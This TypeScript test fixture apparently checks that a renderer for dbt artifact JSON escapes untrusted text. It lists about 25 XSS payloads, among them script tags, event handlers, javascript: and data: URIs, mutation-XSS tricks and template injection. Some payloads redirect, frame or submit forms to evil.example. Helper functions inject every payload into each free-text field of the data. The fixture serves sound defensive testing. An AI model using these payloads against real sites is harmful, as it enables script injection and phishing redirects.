import { mapTexts } from './json.ts';
import type { Json, JsonObject } from './json.ts';

/** Ways to get a script into a page, each for another place that forgets to escape. */
export const ATTACKS = [
  '<script>alert(1)</script>',
  '</script><script>alert(2)</script>',
  '</style><script>alert(3)</script>',
  '</title></textarea></template></noscript><script>alert(4)</script>',
  '<img src=x onerror=alert(5)>',
  '"><svg onload=alert(6)>',
  '" onmouseover="alert(7)" x="',
  "' onfocus='alert(8)' autofocus x='",
  '[click](javascript:alert(9)) ![pic](javascript:alert(10)) <javascript:alert(11)>',
  '[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '<a href="jav&#x09;ascript:alert(12)">a</a><a href=" &#1;javascript:alert(13)">b</a>',
  '<iframe src="https://evil.example"></iframe><object data="https://evil.example"></object>',
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel="stylesheet" href="https://evil.example/x.css"><style>body{display:none}</style>',
  '<form action="https://evil.example"><input name=q><button>Go</button></form>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(14)&gt;">',
  '<svg><a xlink:href="javascript:alert(15)"><text>x</text></a><foreignObject><body onload=alert(16)>',
  '<div style="position:fixed;inset:0;background:url(https://evil.example/x)">over everything</div>',
  '<!--<script>--><![CDATA[<script>alert(17)</script>]]>',
  '&lt;script&gt;alert(18)&lt;/script&gt; &#60;script&#62;alert(19)&#60;/script&#62;',
  '{{constructor.constructor("alert(20)")()}} ${alert(21)} #{alert(22)} <%= alert(23) %>',
  '\u2028\u2029</ScRiPt ><ScRiPt\u000c/x>alert(24)</sCrIpT>',
  'red;}</style><script>alert(25)</script>',
  '```html\n</code></pre><script>alert(26)</script>\n```',
  '| a | b |\n|---|---|\n| <script>alert(27)</script> | <img src=x onerror=alert(28)> |',
].join(' \n\n');

/** Keys whose values tie the files together: poisoned separately, together with the ids. */
const STRUCTURAL = new Set([
  'unique_id',
  'resource_type',
  'invocation_id',
  'dbt_schema_version',
  'attached_node',
  'tested_node_unique_id',
  'nodes',
  'macros',
  'which',
]);

/** Times and statuses stay readable, so that what they stand beside is rendered too. */
const READABLE = /(_at|_at_time|^ts|^status|^level|^generated_at|^code)$/;

/** The same data with every attack behind every text that is free to hold anything. */
export function poisonTexts<Data extends Json>(data: Data): Json {
  return mapTexts(data, (text, key) =>
    STRUCTURAL.has(key) || READABLE.test(key) ? text : `${text} ${ATTACKS}`,
  );
}

/** The same data with every text replaced by the attacks alone. */
export function replaceTexts<Data extends Json>(data: Data): Json {
  return mapTexts(data, (text, key) => (STRUCTURAL.has(key) ? text : ATTACKS));
}

/** The same data in which every word `from` reads `to`: in ids, keys and references alike. */
export function replaceWord(data: JsonObject, from: string, to: string): string {
  return JSON.stringify(data).replaceAll(from, JSON.stringify(to).slice(1, -1));
}
